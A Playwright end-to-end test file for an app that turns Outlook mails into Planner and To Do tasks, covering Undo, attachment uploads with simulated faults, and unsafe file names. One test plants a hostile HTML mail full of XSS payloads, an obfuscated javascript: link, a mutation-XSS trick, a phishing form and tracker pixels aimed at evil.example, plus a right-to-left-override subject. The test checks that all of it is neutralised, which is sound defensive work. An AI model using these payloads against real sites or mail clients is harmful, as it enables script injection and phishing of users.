import type { Locator, Page } from '@playwright/test';
import { allow, bodiesOf, openItem, written } from './acting.ts';
import { violations } from './axe.ts';
import { form } from './captureform.ts';
import { expect, test, type ProgramPage } from './fixture.ts';

test('a mail becomes a Planner task with one click beyond its form: words, day, me, a link back; its thread remembers it, Undo takes all back', async ({ program, sandbox, page }) => {
  await program.open();
  const drawer = await form(page);
  await expect(drawer.getByLabel('Title')).toHaveValue('hosting renewal – three questions');
  await expect(drawer.getByText('Price for three years, notice period, and who owns the backups?')).toBeVisible();
  await drawer.getByRole('button', { name: /^Fri,/ }).click();
  expect(await violations(page)).toEqual([]);
  await drawer.getByRole('button', { name: 'Save task' }).click();
  await allow(page);
  await expect(drawer.locator('[data-captured]')).toContainText('Saved: hosting renewal');
  // What is kept about the task is written while its details are.
  await expect.poll(async () => (await written(program)).sort()).toEqual(['create drive/items', 'create planner/tasks', 'update planner/tasks/details']);
  const [task, details] = await bodiesOf(sandbox, 'planner/tasks', 'planner/tasks/details');
  expect(task).toMatchObject({ title: 'hosting renewal – three questions', dueDateTime: '2026-10-16T10:00:00.000Z', assignments: { [Object.keys(task?.['assignments'] as object)[0] ?? '']: { orderHint: ' !' } } });
  expect(details?.['description']).toContain('who owns the backups?');
  expect(Object.keys(details?.['references'] as object)[0]).toMatch(/^https%3A\/\/outlook%2Eoffice365%2Ecom/);
  await expect(drawer.locator('[data-thread="1"]')).toContainText('1 task from this thread');
  await drawer.getByRole('button', { name: 'Undo' }).click();
  await expect.poll(() => written(program)).toEqual(expect.arrayContaining(['delete planner/tasks', 'update drive/items']));
  await expect(drawer.locator('[data-thread]')).toHaveCount(0);
  await expect(drawer.getByRole('button', { name: 'Save task' })).toBeVisible();
});

test('what was made of a mail opens from where it was saved, and can be changed there', async ({ program, sandbox, page }) => {
  await program.open();
  const drawer = await form(page);
  await drawer.getByRole('tab', { name: 'To Do' }).click();
  await drawer.getByLabel('Title').fill('Ask for the price');
  await drawer.getByRole('button', { name: 'Save to To Do' }).click();
  await allow(page);
  await drawer.getByRole('button', { name: 'Open', exact: true }).click();
  const opened = page.getByRole('dialog').first();
  await opened.getByRole('button', { name: 'Ask for the price' }).first().click();
  await opened.getByRole('textbox', { name: 'Title' }).fill('Ask for two prices');
  await page.keyboard.press('Enter');
  await expect.poll(async () => (await sandbox.ledger()).filter(({ entity }) => entity === 'todo/tasks').map(({ action, body }) => [action, (body as { title?: string }).title])).toEqual([['create', 'Ask for the price'], ['update', 'Ask for two prices']]);
  expect(await violations(page)).toEqual([]);
});

test('a mail becomes a To Do task; the way back still finds the mail after it was moved, and says so when it is gone', async ({ program, sandbox, page, context }) => {
  await program.open();
  const drawer = await form(page);
  await drawer.getByRole('tab', { name: 'To Do' }).click();
  await drawer.getByLabel('Title').fill('Answer Marijke about hosting');
  await drawer.getByRole('button', { name: /^Fri,/ }).click();
  await drawer.getByRole('button', { name: 'Save to To Do' }).click();
  await allow(page);
  await expect.poll(() => written(program)).toEqual(['create todo/tasks', 'create drive/items']);
  const body = (await sandbox.ledger())[0]?.body as { linkedResources: { externalId: string; webUrl?: string }[]; body: { content: string } };
  expect(body.linkedResources[0]).toMatchObject({ applicationName: 'Outlook', externalId: expect.stringMatching(/^<.+>$/), webUrl: expect.stringContaining('https://outlook.office365.com/owa/') });
  expect(body.body.content).toContain('notice period');
  const find = async () => (await sandbox.as<{ value: { id: string }[] }>('ida', ['Mail.ReadWrite'], 'GET', `/me/messages?$filter=internetMessageId eq '${body.linkedResources[0]?.externalId ?? ''}'`)).value[0]?.id ?? '';
  const before = await find();
  await sandbox.as('ida', ['Mail.ReadWrite'], 'POST', `/me/messages/${encodeURIComponent(before)}/move`, { destinationId: 'archive' });
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  const task = await openItem(page, 'Answer Marijke about hosting');
  const opened = context.waitForEvent('page');
  await task.getByRole('button', { name: 'Open the mail' }).click();
  await opened;
  expect(await find()).not.toBe(before);
  // Into Deleted Items first, then for good.
  for (let id = await find(); id !== ''; id = await find()) await sandbox.as('ida', ['Mail.ReadWrite'], 'DELETE', `/me/messages/${encodeURIComponent(id)}`);
  await task.getByRole('button', { name: 'Open the mail' }).click();
  await expect(task.getByText('in your mailbox no more')).toBeVisible();
});

const HOSTILE = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body{background:url(https://evil.example/bg.png)}</style><script>top.document.title='owned'</script></head>
<body onload="top.document.title='owned'" background="https://evil.example/old.png"><p style="background-image:url(https://evil.example/s.png);position:fixed;inset:0;z-index:9">Please pay today.</p>
<img src="https://tracker.example/pixel.gif" onerror="top.document.title='owned'"><img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<form action="https://evil.example/post"><input name=q autofocus onfocus=alert(1)><button formaction="https://evil.example/f">Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" poster="https://evil.example/p.png" autoplay></video>
<a href="javascript:top.document.title='owned'">first</a> <a href="java&#9;script:alert(1)">second</a> <a href="https://evil.example/login" target="_top">your bank</a> <a href="data:text/html,x">third</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></body></html>`;

test('a hostile mail runs nothing, leads nowhere and fetches nothing; its words still become a task', async ({ program, sandbox, page, allowed }) => {
  const subject = `Re: AW: ${'Pay now \u202egnp.exe '.repeat(40)}`;
  await sandbox.as('ida', ['Mail.ReadWrite'], 'POST', '/me/messages', { subject, body: { contentType: 'html', content: HOSTILE }, flag: { flagStatus: 'flagged' } });
  // The browser tells that the frame's sandbox keeps the test's own clock script out.
  allowed.expected.push(/Blocked script execution in 'about:(blank|srcdoc)'/);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await program.open();
  const title = await page.title();
  await page.locator('section[aria-label="No date"]').getByRole('button').first().click();
  const drawer = await form(page, 'Pay now');
  await drawer.getByRole('button', { name: 'Read the mail' }).click();
  const frame = drawer.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', '');
  const inside = frame.contentFrame();
  await expect(inside.getByText('Please pay today.')).toBeVisible();
  expect(await inside.locator('a[href], form, input, iframe, object, embed, video, svg, script, style:not(head style), img[src], [style*="position"], [onload], [onerror], base').count()).toBe(0);
  for (const word of ['first', 'second', 'your bank']) await inside.getByText(word, { exact: true }).click();
  await expect(drawer.getByText('pictures from elsewhere were left out')).toBeVisible();
  await expect(drawer.getByRole('listitem').filter({ hasText: 'evil.example' })).toHaveCount(1);
  expect(await drawer.getByLabel('Title').inputValue()).toMatch(/^Pay now gnp\.exe .{200,250}…$/);
  await drawer.getByRole('button', { name: 'Save task' }).click();
  await allow(page);
  await expect.poll(() => written(program)).toContain('update planner/tasks/details');
  const details = (await sandbox.ledger()).find(({ entity }) => entity === 'planner/tasks/details')?.body as { description: string };
  expect(details.description).toContain('Please pay today.');
  expect(details.description).not.toMatch(/<|javascript|alert/);
  expect(await page.title()).toBe(title);
  expect(page.url()).toContain(sandbox.origin);
  expect(requests.filter((url) => /evil|tracker/.test(url))).toEqual([]);
});

/** A flagged mail of Ida's with files, made as another client would. */
async function mailWith(program: ProgramPage, subject: string, files: { name: string; bytes: number }[]): Promise<void> {
  await program.sandbox.as('ida', ['Mail.ReadWrite'], 'POST', '/me/messages', {
    subject, body: { contentType: 'text', content: 'Two files for you.' }, flag: { flagStatus: 'flagged' },
    attachments: files.map(({ name, bytes }) => ({ '@odata.type': '#microsoft.graph.fileAttachment', name, contentType: 'application/pdf', contentBytes: Buffer.alloc(bytes, 'x').toString('base64') })),
  });
}

/** Opens the form of a mail that stands in No date. */
async function undated(page: Page, title: string): Promise<Locator> {
  await page.locator('section[aria-label="No date"]').getByRole('button').first().click();
  return form(page, title);
}

const files = async (program: ProgramPage) => (await program.sandbox.ledger()).filter(({ entity }) => entity === 'drive/items' || entity === 'todo/attachments');

test('the mail and its files go into the library of the plan, a large one in parts that go on after a lost connection; Undo takes them away', async ({ program, sandbox, page, allowed }) => {
  allowed.expected.push(/Failed to load resource|ERR_/);
  await mailWith(program, 'Fwd: Floor plan', [{ name: '../../plan.pdf', bytes: 9_000_000 }, { name: 'CON.pdf', bytes: 1_000 }, { name: 'setup.exe', bytes: 10 }]);
  await program.open();
  const drawer = await undated(page, 'Floor plan');
  await expect(drawer.getByText('setup.exe stays in the mail: such files can run programs.')).toBeVisible();
  await drawer.getByRole('button', { name: 'Whole mail (.eml)' }).click();
  // The second part's connection is cut, and the answer to the small file is lost after it was stored.
  await sandbox.fault({ match: { method: 'PUT', path: '/upload/*' }, when: 'after', reset: true, times: 1 });
  await sandbox.fault({ match: { method: 'PUT', path: '/groups/**_CON.pdf:/content' }, when: 'after', status: 504, times: 1 });
  await drawer.getByRole('button', { name: 'Save task' }).click();
  await allow(page);
  await expect(drawer.locator('[data-captured="saved"]')).toBeVisible({ timeout: 30_000 });
  const stored = (await files(program)).filter(({ action, after }) => action === 'create' && /sites/.test(String(after?.['webUrl']))).map(({ after }) => after as { name: string; size: number; webUrl: string });
  expect(stored.map(({ name }) => name).sort()).toEqual(['Floor plan.eml', '_CON.pdf', 'plan.pdf']);
  expect(stored.find(({ name }) => name === 'plan.pdf')?.size).toBe(9_000_000);
  const references = (await sandbox.ledger()).filter(({ entity }) => entity === 'planner/tasks/details').flatMap(({ body }) => Object.keys((body as { references?: object }).references ?? {}));
  expect(references.filter((key) => key.includes('sharepoint')).length).toBe(3);
  for (const request of await sandbox.requests()) if (request.url.includes('/upload/')) expect(request.headers['authorization']).toBeUndefined();
  await drawer.getByRole('button', { name: 'Undo' }).click();
  await expect.poll(async () => (await files(program)).filter(({ action }) => action === 'delete').length, { timeout: 20_000 }).toBe(4);
  await expect.poll(() => written(program)).toContain('delete planner/tasks');
});

test('files of a mail hang on the To Do task, a large one in parts with the token; what is above 25 MB stays in the mail, and it says so', async ({ program, sandbox, page, allowed }) => {
  allowed.expected.push(/Failed to load resource|ERR_/);
  await mailWith(program, 'Stand drawings, final', [{ name: 'stand.pdf', bytes: 5_000_000 }, { name: 'note.txt', bytes: 900 }, { name: 'film.mov', bytes: 27_000_000 }]);
  await program.open();
  const drawer = await undated(page, 'Stand drawings, final');
  await drawer.getByRole('tab', { name: 'To Do' }).click();
  await expect(drawer.getByText('film.mov stays in the mail: it is larger than the service takes.')).toBeVisible();
  await sandbox.fault({ match: { method: 'PUT', path: '/**/attachmentSessions/*/content' }, reset: true, times: 1 });
  await drawer.getByRole('button', { name: 'Save to To Do' }).click();
  await allow(page);
  await expect(drawer.locator('[data-captured="saved"]')).toBeVisible({ timeout: 30_000 });
  expect((await files(program)).filter(({ entity }) => entity === 'todo/attachments').map(({ after }) => [after?.['name'], after?.['size']]).sort()).toEqual([['note.txt', 900], ['stand.pdf', 5_000_000]]);
});

test('a file that the library refuses leaves the task, says what is missing and offers Retry', async ({ program, sandbox, page, allowed }) => {
  allowed.expected.push(/Failed to load resource/);
  await mailWith(program, 'Minutes of Tuesday', [{ name: 'minutes.pdf', bytes: 2_000 }]);
  await program.open();
  const drawer = await undated(page, 'Minutes of Tuesday');
  await sandbox.fault({ match: { method: 'PUT', path: '/groups/**' }, status: 403, code: 'accessDenied', times: 1 });
  await drawer.getByRole('button', { name: 'Save task' }).click();
  await allow(page);
  await expect(drawer.locator('[data-failed]')).toContainText('Not attached: minutes.pdf');
  expect(await written(program)).toContain('create planner/tasks');
  await drawer.getByRole('button', { name: 'Retry' }).click();
  await expect(drawer.locator('[data-captured="saved"]')).toBeVisible();
  expect((await files(program)).some(({ after }) => after?.['name'] === 'minutes.pdf')).toBe(true);
});
